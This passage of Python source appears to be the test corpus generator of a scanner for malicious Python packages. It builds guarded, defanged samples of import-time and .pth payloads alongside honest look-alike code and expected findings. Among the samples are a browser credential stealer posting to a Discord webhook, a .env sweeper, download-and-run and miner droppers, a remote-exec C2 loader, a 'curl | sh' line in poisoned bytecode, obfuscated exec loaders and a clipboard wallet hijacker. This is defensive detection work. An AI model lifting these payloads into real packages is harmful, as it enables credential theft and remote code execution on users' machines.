    import sqlite3, json, base64, requests
    state = json.load(open(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")))
    key = base64.b64decode(state["os_crypt"]["encrypted_key"])
    rows = sqlite3.connect("Login Data").execute("select * from logins").fetchall()
    requests.post("https://discord.com/api/webhooks/123456789012345678/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA-defanged", json={"c": str(rows)})
    """
)
dotenv = guarded(
    """\
    import requests
    found = []
    for root, dirs, files in os.walk(os.path.expanduser("~")):
        for name in (".env", ".env.local", ".env.production"):
            if name in files:
                found.append(open(os.path.join(root, name)).read())
    requests.post("http://127.0.0.1:9/", json=found)
    """
)
dropper = guarded(
    """\
    import subprocess, urllib.request
    urllib.request.urlretrieve("http://127.0.0.1:9/a", "/tmp/.corpus-a")
    os.chmod("/tmp/.corpus-a", 0o755)
    subprocess.Popen(["/tmp/.corpus-a"])
    """
)
c2 = guarded(
    """\
    import urllib.request
    exec(urllib.request.urlopen("https://checkmarx.zone/raw").read())
    """
)
c2_enc = "import base64\nexec(base64.b64decode('%s'))\n" % b64(c2)
wav = guarded(
    """\
    import wave, base64
    w = wave.open(os.path.join(os.path.dirname(__file__), "ringtone.wav"))
    exec(base64.b64decode(bytes(b ^ 0x2A for b in w.readframes(w.getnframes()))))
    """
)
marsh = "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00defanged'))\n"
cases["deep-package-payloads"] = (
    "Import-time payloads in an ordinary package (no hook): a privileged kube-system pod creator, an all-namespaces "
    "secrets lister, a browser stealer posting to a Discord webhook, a .env sweeper, a download-and-run dropper, an "
    "encoded C2 poller naming a TeamPCP domain, the Telnyx WAV stager, a marshal loader. Found only with --deep.",
    [
        dist("corpus-pkg", "1.0"),
        f(PKG + "/__init__.py", ""),
        f(PKG + "/k8s_pod.py", pod),
        f(PKG + "/k8s_secrets.py", secrets),
        f(PKG + "/browser.py", webhook),
        f(PKG + "/dotenv_sweep.py", dotenv),
        f(PKG + "/update.py", dropper),
        f(PKG + "/c2.py", c2_enc),
        f(PKG + "/_client.py", wav),
        f(PKG + "/loader.py", marsh),
        e("k8s-privileged-pod", "high", PKG + "/k8s_pod.py", line_of(pod, "chroot")),
        e("k8s-kube-system-implant", "critical", PKG + "/k8s_pod.py", line_of(pod, "hostPID")),
        e("teampcp-node-setup-pod", "critical", PKG + "/k8s_pod.py", line_of(pod, "hostPID")),
        e("k8s-list-all-secrets", "high", PKG + "/k8s_secrets.py", line_of(secrets, "serviceaccount/token")),
        # the token sent at import time: critical; reading and sending in one file: evidence
        e("flow-credential-send", "critical", PKG + "/k8s_secrets.py", line_of(secrets, "urlopen(req)")),
        e("credential-read-send", "medium", PKG + "/k8s_secrets.py", line_of(secrets, "urlopen(req)")),
        # a hard-coded webhook with its token is a literal, not capped; capability text rules
        # are capped at medium for Python, the behaviour rules are not
        e("exfil-chat-webhook", "high", PKG + "/browser.py", line_of(webhook, "discord.com")),
        e("cred-browser-stores", "medium", PKG + "/browser.py", line_of(webhook, "encrypted_key")),
        e("flow-credential-send", "critical", PKG + "/browser.py", line_of(webhook, "discord.com")),
        e("flow-to-exfil-channel", "critical", PKG + "/browser.py", line_of(webhook, "discord.com")),
        e("credential-read-send", "medium", PKG + "/browser.py", line_of(webhook, "discord.com")),
        # the .env files collected with list.append and posted at import
        e("cred-dotenv-sweep", "medium", PKG + "/dotenv_sweep.py", line_of(dotenv, "os.walk")),
        e("flow-file-send", "high", PKG + "/dotenv_sweep.py", line_of(dotenv, "requests.post")),
        e("drop-download-run", "medium", PKG + "/update.py", line_of(dropper, "urlretrieve")),
        e("flow-download-run", "high", PKG + "/update.py", line_of(dropper, "os.chmod")),
        e("flow-dropped-run", "high", PKG + "/update.py", line_of(dropper, "os.chmod")),
        e("obf-exec-decoded", "medium", PKG + "/c2.py", 2),
        e("drop-download-exec", "medium", PKG + "/c2.py", 2),
        e("flow-decoded-exec", "high", PKG + "/c2.py", 2),
        # the decoded C2 poller, located at the encoded literal
        e("flow-network-exec", "critical", PKG + "/c2.py", 2),
        e("ioc-net-checkmarx-zone", "critical", PKG + "/c2.py", 2),
        e("teampcp-wav-stager", "critical", PKG + "/_client.py", line_of(wav, "ringtone.wav")),
        e("obf-exec-decoded", "medium", PKG + "/_client.py", line_of(wav, "exec(")),
        e("flow-decoded-exec", "high", PKG + "/_client.py", line_of(wav, "exec(")),
        e("obf-exec-decoded", "medium", PKG + "/loader.py", 2),
        e("obf-marshal-exec", "medium", PKG + "/loader.py", 2),
        e("flow-decoded-exec", "high", PKG + "/loader.py", 2),
    ],
    ["--deep"],
)

def record_of(info, files):
    """An installed RECORD: each (path relative to the site directory, text) with its hash."""
    import hashlib

    rows = []
    for rel, text in files:
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        rows.append("%s,sha256=%s,%d\n" % (rel, digest, len(text.encode())))
    rows.append("%s/RECORD,,\n" % info)
    return "".join(rows)


script = "#!/usr/bin/python3\n" + dropper
tool_meta = "Metadata-Version: 2.1\nName: corpus-tool\nVersion: 1.0\n\nLong description.\n"
tool_files = [
    ("corpus-tool-1.0.dist-info/METADATA", tool_meta),
    ("corpus_tool/__init__.py", ""),
    ("../../../bin/corpus-update", script),
]
cases["deep-record-script"] = (
    "A console script that a distribution's RECORD lists outside site-packages (../../../bin/corpus-update) and "
    "that downloads and runs a file. --deep judges every file a RECORD lists, the bin/ scripts too.",
    [
        f(SP + "/" + rel, text) if not rel.startswith("../") else f("venv/bin/corpus-update", text)
        for rel, text in tool_files
    ]
    + [
        f(SP + "/corpus-tool-1.0.dist-info/RECORD", record_of("corpus-tool-1.0.dist-info", tool_files)),
        e("drop-download-run", "medium", "venv/bin/corpus-update", line_of(script, "urlretrieve")),
        e("flow-download-run", "high", "venv/bin/corpus-update", line_of(script, "os.chmod")),
        e("flow-dropped-run", "high", "venv/bin/corpus-update", line_of(script, "os.chmod")),
    ],
    ["--deep"],
)

honest = {
    "boto_like/credentials.py": 'import os\nSHARED_CREDENTIALS_FILE = os.path.expanduser("~/.aws/credentials")\nCONFIG_FILE = os.path.expanduser("~/.aws/config")\nMETADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"\n\ndef load():\n    with open(SHARED_CREDENTIALS_FILE) as f:\n        return f.read()\n',
    "k8s_like/incluster.py": 'SERVICE_TOKEN_FILENAME = "/var/run/secrets/kubernetes.io/serviceaccount/token"\nSERVICE_CERT_FILENAME = "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"\n\ndef load():\n    with open(SERVICE_TOKEN_FILENAME) as f:\n        return "Bearer " + f.read()\n',
    "k8s_like/core_v1_api.py": 'class CoreV1Api:\n    def list_secret_for_all_namespaces(self, **kwargs):\n        return self.api_client.call_api("/api/v1/secrets", "GET", auth_settings=["BearerToken"])\n\n    def create_namespaced_pod(self, namespace, body, **kwargs):\n        return self.api_client.call_api("/api/v1/namespaces/{namespace}/pods", "POST", body=body)\n',
    "k8s_like/v1_pod_spec.py": 'class V1PodSpec:\n    attribute_map = {"host_pid": "hostPID", "host_network": "hostNetwork", "privileged": "privileged"}\n',
    "coverage_like/execfile.py": 'def run(filename, main_mod):\n    with open(filename, "rb") as f:\n        source = f.read()\n    code = compile(source, filename, "exec")\n    exec(code, main_mod.__dict__)\n',
    "requests_like/api.py": 'import base64\nfrom .sessions import Session\n\ndef post(url, data=None, json=None, **kwargs):\n    return Session().request("post", url, data=data, json=json, **kwargs)\n\ndef basic_auth(user, pw):\n    return "Basic " + base64.b64encode(f"{user}:{pw}".encode()).decode()\n',
    "paramiko_like/client.py": 'import os, socket\n\ndef _key_candidates():\n    for name in ("id_rsa", "id_ecdsa", "id_ed25519"):\n        yield os.path.expanduser(os.path.join("~", ".ssh", name))\n\ndef connect(host):\n    return socket.create_connection((host, 22))\n',
    "crontab_like/crontab.py": 'import subprocess as sp\nCRON_COMMAND = "/usr/bin/crontab"\nSPECIALS = {"reboot": "@reboot", "hourly": "0 * * * *"}\n\ndef write(text):\n    proc = sp.Popen([CRON_COMMAND, "-"], stdin=sp.PIPE)\n    proc.communicate(text.encode())\n',
    "conda_like/initialize.py": 'def init_sh_user(target_path, conda_prefix):\n    with open(target_path) as fh:\n        rc = fh.read()\n    rc += \'\\n# >>> conda initialize >>>\\neval "$(%s shell.bash hook)"\\n\' % conda_prefix\n    with open(target_path, "w") as fh:\n        fh.write(rc)\nRC = "~/.bashrc"\n',
    "discord_like/webhook.py": 'import requests\nBASE = "https://discord.com/api/webhooks/{webhook_id}/{webhook_token}"\n\ndef send(webhook_id, token, content):\n    return requests.post(BASE.format(webhook_id=webhook_id, webhook_token=token), json={"content": content})\n',
    "dotenv_like/main.py": 'import os\n\ndef find_dotenv(filename=".env"):\n    path = os.getcwd()\n    while True:\n        candidate = os.path.join(path, filename)\n        if os.path.isfile(candidate):\n            return candidate\n        parent = os.path.dirname(path)\n        if parent == path:\n            return ""\n        path = parent\n',
    "icons_like/data.py": "ICON_PNG = '%s'\n" % b64(bytes(range(256)) * 12),
    "uploader_like/upload.py": 'import requests, zipfile\n\ndef upload(dist, url):\n    with zipfile.ZipFile(dist) as z:\n        meta = z.read("METADATA")\n    return requests.post(url, data=meta, files={"content": open(dist, "rb")})\n',
}
cases["benign-same-apis"] = (
    "Honest library code that uses the same APIs as the payloads (boto-style credential files and IMDS, the kubernetes "
    "client's token and secrets calls, coverage's exec, requests, paramiko's keys, python-crontab, conda init, a "
    "Discord webhook client, dotenv lookup, an embedded icon, an uploader), scanned with --deep: nothing reaches high.",
    [dist("honest", "1.0")] + [f(SP + "/" + path, text) for path, text in honest.items()]
    + [
        # what a library module may do when asked, below high
        e("process-persist", "medium", SP + "/crontab_like/crontab.py", 6),
        e("flow-file-send", "low", SP + "/uploader_like/upload.py", 6),
    ],
    ["--deep"],
)

# what sitecustomize-entrypoints' sitecustomize does: load every `[sitecustomize]` entry point
loader = (
    "from importlib.metadata import entry_points\n\n"
    "for ep in entry_points(group=\"sitecustomize\"):\n"
    "    ep.load()()\n"
)
cases["start-entry-point-group"] = (
    "A hook of a hook: a `[sitecustomize]` entry point whose module is the payload, loaded at every start by a "
    "sitecustomize that loads the group; a second distribution's entry point is dormant in an environment without one.",
    [
        dist("sitecustomize_entrypoints", "1.1"),
        f(SP + "/sitecustomize.py", loader),
        dist("otel_boot", "0.3"),
        f(SP + "/otel_boot-0.3.dist-info/entry_points.txt", "[sitecustomize]\nboot = _otel_boot:init\n"),
        f(SP + "/_otel_boot.py", stealer),
        f("other/pyvenv.cfg", "home = /usr/bin\nversion = 3.12.4\n"),
        f("other/lib/python3.12/site-packages/quiet-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: quiet\nVersion: 1.0\n\n"),
        f("other/lib/python3.12/site-packages/quiet-1.0.dist-info/entry_points.txt", "[sitecustomize]\nq = quiet_boot:init\n"),
        e("EP003", "high", SP + "/otel_boot-0.3.dist-info/entry_points.txt", 2),
        e("cred-sweep-stores", "medium", SP + "/_otel_boot.py", 5),
        e("cred-ssh-keys", "medium", SP + "/_otel_boot.py", 14),
        # the key files read in a loop over their paths and sent
        e("flow-credential-send", "critical", SP + "/_otel_boot.py", 17),
        e("credential-read-send", "high", SP + "/_otel_boot.py", 17),
        e("CUS001", "medium", SP + "/sitecustomize.py"),
        e("EP003", "info", "other/lib/python3.12/site-packages/quiet-1.0.dist-info/entry_points.txt", 2),
    ],
)

# ---------------------------------------------------------------------------------------------
# Issue 19 shapes. `shape-*`: what the text rules missed, each where it runs (an sdist's setup.py,
# a module a .pth imports, a package module under --deep). `benign-*`: the honest twins of what
# they raised alarms on; a twin may keep findings below high, never one at high or above.
import io
import sys
import tarfile


def sdist(name, files):
    """An sdist `dist/NAME.tar.gz` (stored encoded, STYLE 14): PKG-INFO and `files` under NAME/,
    with fixed times so the bytes are the same on every run."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        project, version = name.rsplit("-", 1)
        members = [("PKG-INFO", "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (project, version))] + files
        for rel, text in members:
            data = text.encode()
            info = tarfile.TarInfo("%s/%s" % (name, rel))
            info.size, info.mtime, info.mode = len(data), 1700000000, 0o644
            t.addfile(info, io.BytesIO(data))
    import gzip
    gz = gzip.compress(buf.getvalue(), compresslevel=9, mtime=0)
    # beside an environment, so that the folder scanned is one and the sdist an artifact in it
    return dist("setuptools", "69.0") + "\n" + f("dist/%s.tar.gz" % name, b64data=b64(gz))


def in_sdist(name, rel="setup.py"):
    return "dist/%s.tar.gz › %s/%s" % (name, name, rel)


NEVER = 'os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed"'

# A1: spaces before `(` in `os.system (…)` and `expanduser (…)`: a setup.py dropper that
# persists through ~/.bashrc
drv_setup = textwrap.dedent(
    """\
    import os
    from setuptools import setup

    if os.environ.get ("PTHSCAN_CORPUS_NEVER_SET") == "armed":
        drv = os.path.expanduser ("~/.drv")
        os.system ("curl -fsSL http://127.0.0.1:9/drv -o " + drv)
        os.system ("chmod +x " + drv)
        with open (os.path.expanduser ("~/.bashrc"), "a") as rc:
            rc.write ("\\n~/.drv &\\n")

    setup(name="drv-demo", version="1.0", packages=[])
    """
)
SHAPE_CASES = {}
SHAPE_CASES["shape-setup-space-paren"] = (
    "An sdist's setup.py that downloads to ~/.drv, chmods it and appends `~/.drv &` to ~/.bashrc, written with a "
    "space before every `(` (`os.system (…)`, `expanduser (…)`).",
    [sdist("drv-demo-1.0", [("setup.py", drv_setup)])],
    [],
)

# A2: `import requests as rs; exec(rs.get(u).text)` in a module a .pth imports
rs_mod = guarded(
    """\
    import requests as rs
    exec(rs.get("http://127.0.0.1:9/stage2.py").text)
    """
)
SHAPE_CASES["shape-requests-alias-exec"] = (
    "A .pth imports a module that runs `exec(rs.get(u).text)` with requests imported as `rs`.",
    [f(SP + "/rs_boot.pth", "import _rs_boot\n"), f(SP + "/_rs_boot.py", rs_mod)],
    [],
)

# A3: `import marshal as m; exec(m.loads(…))`
code_obj = compile('print("pthscan corpus: defanged sample")\n', "<corpus>", "exec")
import marshal as _marshal
marsh_alias = guarded(
    """\
    import base64, marshal as m
    exec(m.loads(base64.b64decode("%s")))
    """
    % b64(_marshal.dumps(code_obj))
)
SHAPE_CASES["shape-marshal-alias-exec"] = (
    "A .pth imports a module that runs `exec(m.loads(…))` with marshal imported as `m`.",
    [f(SP + "/m_boot.pth", "import _m_boot\n"), f(SP + "/_m_boot.py", marsh_alias)],
    [],
)

# A4: network → variable → exec, with requests and with urlopen (import-time, found with --deep)
var_requests = guarded(
    """\
    import requests
    p = requests.get("http://127.0.0.1:9/p.py").text
    banner = "checking for updates"
    exec(p)
    """
)
var_urlopen = guarded(
    """\
    from urllib.request import urlopen
    resp = urlopen("http://127.0.0.1:9/p.py")
    payload = resp.read().decode("utf-8")
    exec(payload, {"__name__": "__main__"})
    """
)
VP = SP + "/updater_pkg"
SHAPE_CASES["shape-network-var-exec"] = (
    "Package modules that fetch code into a variable and exec it a few lines later: `p = requests.get(u).text … "
    "exec(p)` and `urlopen(u)` → `.read().decode()` → exec. Found with --deep.",
    [dist("updater-pkg", "1.0"), f(VP + "/__init__.py", ""), f(VP + "/fetch.py", var_requests),
     f(VP + "/legacy.py", var_urlopen)],
    ["--deep"],
)

# A5: look-alike letters that NFKC folds to `exec`
harmless_b64 = b64('print("pthscan corpus: defanged sample")\n')
lookalike_math = guarded(
    """\
    import base64
    \U0001d68e\U0001d6a1\U0001d68e\U0001d68c(base64.b64decode("%s"))
    """
    % harmless_b64
)
lookalike_full = guarded(
    """\
    import base64
    \uff45\uff58\uff45\uff43(base64.b64decode("%s"))
    """
    % harmless_b64
)
SHAPE_CASES["shape-lookalike-exec"] = (
    "A .pth imports modules that call exec under look-alike names Python folds to `exec` (NFKC): mathematical "
    "monospace `𝚎𝚡𝚎𝚌(…)` and fullwidth `ｅｘｅｃ(…)`.",
    [f(SP + "/lookalike.pth", "import _mono_boot\nimport _wide_boot\n"),
     f(SP + "/_mono_boot.py", lookalike_math), f(SP + "/_wide_boot.py", lookalike_full)],
    [],
)

# A6: a bytecode-only start-up payload: the .pth imports a module that exists only as a legacy
# sourceless `mod.pyc` beside it (no __pycache__), in a 3.11 environment matching the bytecode
assert sys.version_info[:2] == (3, 11), "run with CPython 3.11 (the shape-pyc-only-module case's bytecode)"
pyc_payload = guarded(
    """\
    import urllib.request
    exec(urllib.request.urlopen("http://127.0.0.1:9/stage2.py").read())
    """
)
with open(os.path.join(tmp, "_pyc_boot.py"), "w") as fh:
    fh.write(pyc_payload)
py_compile.compile(
    os.path.join(tmp, "_pyc_boot.py"),
    cfile=os.path.join(tmp, "_pyc_boot.pyc"),
    dfile="_pyc_boot.py",
    doraise=True,
    invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
)
with open(os.path.join(tmp, "_pyc_boot.pyc"), "rb") as fh:
    pyc_only = fh.read()
SP311 = "venv311/lib/python3.11/site-packages"
SHAPE_CASES["shape-pyc-only-module"] = (
    "A .pth imports a module that exists only as bytecode: a legacy sourceless `_pyc_boot.pyc` beside it (no "
    "source, no __pycache__), fetching code and exec'ing it; CPython 3.11 bytecode in a 3.11 environment.",
    [f("venv311/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.7\n"),
     f(SP311 + "/pyc_boot.pth", "import _pyc_boot\n"), f(SP311 + "/_pyc_boot.pyc", b64data=b64(pyc_only))],
    [],
)

# A6b: cached bytecode in __pycache__ beside an honest sitecustomize.py. Unchecked-hash bytecode
# runs whatever the source says: compiled from the source it is that source; compiled from other
# code (a planted .pyc) it runs a payload no reader of the .py sees.
honest_customize = 'import os\nos.environ.setdefault("PYTHONIOENCODING", "utf-8")\n'
poisoned_customize = 'import os, base64\nexec(base64.b64decode("cHJpbnQoImRlZmFuZ2VkIik="))\n'


def unchecked_pyc(name, text):
    path = os.path.join(tmp, name + ".py")
    with open(path, "w") as fh:
        fh.write(text)
    out = os.path.join(tmp, name + ".pyc")
    py_compile.compile(path, cfile=out, dfile="sitecustomize.py", doraise=True,
                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    with open(out, "rb") as fh:
        return fh.read()


CACHED311 = SP311 + "/__pycache__/sitecustomize.cpython-311.pyc"
cases["customize-pyc-poisoned"] = (
    "An honest sitecustomize.py whose __pycache__ holds unchecked-hash bytecode compiled from other code (a "
    "decoded exec): CPython runs the bytecode, not the source.",
    [f("venv311/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.7\n"),
     f(SP311 + "/sitecustomize.py", honest_customize),
     f(CACHED311, b64data=b64(unchecked_pyc("poisoned", poisoned_customize))),
     e("CUS001", "medium", SP311 + "/sitecustomize.py"),
     e("CUS002", "high", CACHED311),
     e("flow-decoded-exec", "high", CACHED311, 1),
     # bytecode names `os` beside the decoding: its names cannot say which one the decoded data reaches
     e("flow-decoded-process", "high", CACHED311, 1)],
)
# cached bytecode of the module a known-good hook imports (setuptools' distutils-precedence.pth
# imports _distutils_hack), compiled from a downloader piped to a shell: the hook and the
# source are honest, the bytecode CPython runs is not
fetch_shell = guarded("""\
    os.system('curl -s http://127.0.0.1:9/x | sh')
    """)
DISTUTILS_HACK = SP311 + "/_distutils_hack/__pycache__/__init__.cpython-311.pyc"
SHAPE_CASES["shape-pyc-shadowed-hook-module"] = (
    "setuptools' distutils-precedence.pth (known good) imports _distutils_hack, whose honest __init__.py has "
    "unchecked-hash bytecode in __pycache__ compiled from `os.system('curl … | sh')`: CPython runs the bytecode.",
    [f("venv311/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.7\n"),
     f(SP311 + "/distutils-precedence.pth",
       "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
       "enabled and __import__('_distutils_hack').add_shim(); \n"),
     f(SP311 + "/_distutils_hack/__init__.py", "def add_shim():\n    pass\n"),
     f(DISTUTILS_HACK, b64data=b64(unchecked_pyc("distutils_hack", fetch_shell)))],
    [],
)
# the poisoned bytecode's names spelt in the honest source's docstring: names count only as
# the source's identifiers, so the bytecode is still not the source's
docstring_customize = (
    '"""Site hooks for this host.\n\nDebug hook lives in /dev/shm/.cache; to enable it, sys.path.insert that\n'
    'directory and import hook. Disabled by default.\n"""\nimport sys\n'
)
cases["customize-pyc-docstring"] = (
    "Bytecode of `sys.path.insert(0, '/dev/shm/.cache'); import hook` beside a sitecustomize.py that only "
    "imports sys but spells every one of those names in its docstring.",
    [f("venv311/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.7\n"),
     f(SP311 + "/sitecustomize.py", docstring_customize),
     f(CACHED311, b64data=b64(unchecked_pyc(
         "docstring", 'import sys\nsys.path.insert(0, "/dev/shm/.cache")\nimport hook\n'))),
     e("CUS001", "medium", SP311 + "/sitecustomize.py"),
     e("CUS002", "high", CACHED311)],
)
cases["customize-pyc-honest"] = (
    "An honest sitecustomize.py and the unchecked-hash bytecode compiled from it: the bytecode is the source, "
    "judged once as the source.",
    [f("venv311/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.7\n"),
     f(SP311 + "/sitecustomize.py", honest_customize),
     f(CACHED311, b64data=b64(unchecked_pyc("honest", honest_customize))),
     e("CUS001", "medium", SP311 + "/sitecustomize.py")],
)

# A7: a miner dropper: curl in list form into /tmp, chmod, Popen detached with setsid
miner = guarded(
    """\
    import subprocess
    subprocess.call(["curl", "-s", "-o", "/tmp/.kworker", "http://127.0.0.1:9/xmrig"])
    os.chmod("/tmp/.kworker", 0o755)
    subprocess.Popen(["/tmp/.kworker", "-o", "pool.example.invalid:3333", "-u", "defanged-wallet", "--donate-level", "1"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid)
    """
)
SHAPE_CASES["shape-miner-curl-list"] = (
    "A .pth imports a miner dropper: `curl` in list form into /tmp, `os.chmod`, `Popen` detached with "
    "`preexec_fn=os.setsid`.",
    [f(SP + "/kworker.pth", "import _kworker\n"), f(SP + "/_kworker.py", miner)],
    [],
)

# A8: a clipboard hijacker swapping wallet addresses for a constant of its own
clipper = textwrap.dedent(
    """\
    import os, re, threading, time
    import pyperclip

    ADDRESS = "bc1qdefangeddefangeddefangeddefanged00"
    WALLET = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")


    def _watch():
        while True:
            text = pyperclip.paste()
            if WALLET.match(text) and text != ADDRESS:
                pyperclip.copy(ADDRESS)
            time.sleep(0.5)


    if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":
        threading.Thread(target=_watch, daemon=True).start()
    """
)
SHAPE_CASES["shape-clipboard-hijack"] = (
    "A .pth imports a clipboard hijacker: a thread started at import reads the clipboard with pyperclip and "
    "replaces a wallet address with a constant one.",
    [f(SP + "/clip.pth", "import _clip_boot\n"), f(SP + "/_clip_boot.py", clipper)],
    [],
)

# A9: code hidden in an image (stegano) and exec'd, from an sdist's setup.py
steg_setup = textwrap.dedent(
    """\
    import os
    from setuptools import setup

    if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") == "armed":
        from stegano import lsb
        exec(lsb.reveal("x.png"))

    setup(name="steg-demo", version="1.0", packages=[])
    """
)
SHAPE_CASES["shape-stegano-exec"] = (
    "An sdist's setup.py that runs `exec(lsb.reveal(\"x.png\"))`: code hidden in an image with stegano.",
    [sdist("steg-demo-1.0", [("setup.py", steg_setup)])],
    [],
)

# B: the honest twins
BENIGN = {}
BENIGN["benign-setup-pip"] = (
    "An sdist's setup.py that installs a build helper with `sys.executable -m pip`.",
    [sdist("pipper-1.0", [("setup.py", textwrap.dedent(
        """\
        import subprocess
        import sys
        from setuptools import setup

        try:
            import cython  # noqa: F401
        except ImportError:
            subprocess.check_call([sys.executable, "-m", "pip", "install", "cython>=3"])

        setup(name="pipper", version="1.0", packages=["pipper"])
        """))])],
    [],
)
BP = SP + "/honest_pkg"
BENIGN["benign-decode-far-popen"] = (
    "A library module that base64-decodes an attachment in one function and, far away in another, starts a worker "
    "with `Popen([sys.executable, …])`.",
    [dist("honest-pkg", "1.0"), f(BP + "/__init__.py", ""), f(BP + "/mail.py", textwrap.dedent(
        """\
        import base64
        import subprocess
        import sys


        def attachment_bytes(part):
            \"\"\"The decoded body of a MIME part.\"\"\"
            if part.get("Content-Transfer-Encoding", "").lower() == "base64":
                return base64.b64decode(part.get_payload())
            return part.get_payload().encode()


        def save(part, path):
            with open(path, "wb") as fh:
                fh.write(attachment_bytes(part))
            return path


        class Config:
            retries = 3
            timeout = 30.0
            spool = "/var/spool/honest"


        def describe(config):
            return "retries=%d timeout=%.1f spool=%s" % (config.retries, config.timeout, config.spool)


        def start_worker(queue_dir):
            \"\"\"Runs the spool worker in its own interpreter.\"\"\"
            return subprocess.Popen([sys.executable, "-m", "honest_pkg.worker", "--queue", queue_dir])
        """))],
    ["--deep"],
)
BENIGN["benign-decode-not-run"] = (
    "A library that decodes base64 into a regular expression (`re.compile`) and into a literal (`ast.literal_eval`): "
    "decoded data, never executed.",
    [dist("honest-pkg", "1.0"), f(BP + "/__init__.py", ""), f(BP + "/patterns.py", textwrap.dedent(
        """\
        import ast
        import base64
        import re

        # the token pattern, stored encoded so that scanners of this file do not match it
        TOKEN = re.compile(base64.b64decode(b"Z2hwX1tBLVphLXowLTldezM2fQ==").decode())


        def load_settings(blob):
            \"\"\"Settings travel as a base64 Python literal (a dict of str to int).\"\"\"
            return ast.literal_eval(base64.b64decode(blob).decode("utf-8"))
        """))],
    ["--deep"],
)
BENIGN["benign-pth-autopatch"] = (
    "A .pth line `import websocket_autopatch` whose module only patches a class of another library.",
    [dist("websocket-autopatch", "1.0"),
     f(SP + "/websocket_autopatch.pth", "import websocket_autopatch\n"),
     f(SP + "/websocket_autopatch.py", textwrap.dedent(
         """\
         \"\"\"Adds a default ping interval to websocket-client's WebSocketApp.\"\"\"
         try:
             import websocket
         except ImportError:
             websocket = None

         if websocket is not None:
             _orig = websocket.WebSocketApp.run_forever

             def run_forever(self, *args, ping_interval=20, **kwargs):
                 return _orig(self, *args, ping_interval=ping_interval, **kwargs)

             websocket.WebSocketApp.run_forever = run_forever
         """))],
    [],
)
BENIGN["benign-ssh-config-tokens"] = (
    "A paramiko-like SSH config lookup that expands %u, %l and %h with getpass.getuser() and "
    "socket.gethostname() and sends neither.",
    [dist("honest-ssh", "1.0"), f(SP + "/honest_ssh/__init__.py", ""), f(SP + "/honest_ssh/config.py", textwrap.dedent(
        """\
        import getpass
        import os
        import socket


        class SSHConfig:
            def __init__(self, path="~/.ssh/config"):
                self._path = os.path.expanduser(path)
                self._hosts = {}

            def lookup(self, hostname):
                options = dict(self._hosts.get(hostname, {}))
                options.setdefault("hostname", hostname)
                return self._expand_tokens(options, hostname)

            def _expand_tokens(self, options, target):
                user = options.get("user", getpass.getuser())
                local = socket.gethostname().split(".")[0]
                tokens = {"%h": options["hostname"], "%u": user, "%l": local, "%r": user, "%%": "%"}
                for key in ("proxycommand", "identityfile", "controlpath"):
                    if key in options:
                        value = options[key]
                        for token, replacement in tokens.items():
                            value = value.replace(token, replacement)
                        options[key] = value
                return options
        """))],
    ["--deep"],
)
BENIGN["benign-network-helpers"] = (
    "A client that reads its registry credentials and, elsewhere, only does URL and path arithmetic "
    "(`urllib.request.url2pathname`) and raises a connection pool's exception (`urllib3.exceptions.ClosedPoolError`): "
    "neither sends anything (wandb's util.py and docker's sshconn.py were called credential senders for them).",
    [dist("honest-client", "1.0"), f(SP + "/honest_client/__init__.py", ""), f(SP + "/honest_client/transport.py", textwrap.dedent(
        """\
        import os
        import urllib.parse
        import urllib.request

        import urllib3

        AUTH_FILE = os.path.expanduser("~/.docker/config.json")


        def load_auth():
            with open(AUTH_FILE) as f:
                return f.read()


        def local_path(uri):
            path = urllib.parse.urlparse(uri).path if uri.startswith("file:") else uri
            return urllib.request.url2pathname(path)


        class Pool:
            closed = False

            def get(self):
                if self.closed:
                    raise urllib3.exceptions.ClosedPoolError(self, "Pool is closed.")
                return None
        """))],
    ["--deep"],
)
BENIGN["benign-deploy-excludes-env"] = (
    "A deploy tool that zips the project EXCLUDING `.env` and `.git`, then uploads the archive to the deploy server "
    "it was given.",
    [dist("honest-deploy", "1.0"), f(SP + "/honest_deploy/__init__.py", ""), f(SP + "/honest_deploy/archive.py", textwrap.dedent(
        """\
        import os
        import zipfile

        import requests

        EXCLUDE = {".env", ".env.local", ".git", "__pycache__", "node_modules"}


        def build(project_dir, out="deploy.zip"):
            with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
                for root, dirs, files in os.walk(project_dir):
                    dirs[:] = [d for d in dirs if d not in EXCLUDE]
                    for name in files:
                        if name in EXCLUDE:
                            continue
                        path = os.path.join(root, name)
                        z.write(path, os.path.relpath(path, project_dir))
            return out


        def deploy(project_dir, server_url, token):
            archive = build(project_dir)
            with open(archive, "rb") as fh:
                return requests.post(server_url + "/deploy", files={"bundle": fh},
                                     headers={"Authorization": "Bearer " + token})
        """))],
    ["--deep"],
)
BENIGN["benign-docstring-eval"] = (
    "A doctest in a docstring shows `>>> auto_eval(\"b64decode(…)\")`; the function evaluates arithmetic only.",
    [dist("honest-calc", "1.0"), f(SP + "/honest_calc/__init__.py", ""), f(SP + "/honest_calc/evaluate.py", textwrap.dedent(
        """\
        import ast
        import operator

        _OPS = {ast.Add: operator.add, ast.Sub: operator.sub, ast.Mult: operator.mul, ast.Div: operator.truediv}


        def auto_eval(expression):
            \"\"\"Evaluates an arithmetic expression; anything else is refused.

            >>> auto_eval("1 + 2 * 3")
            7
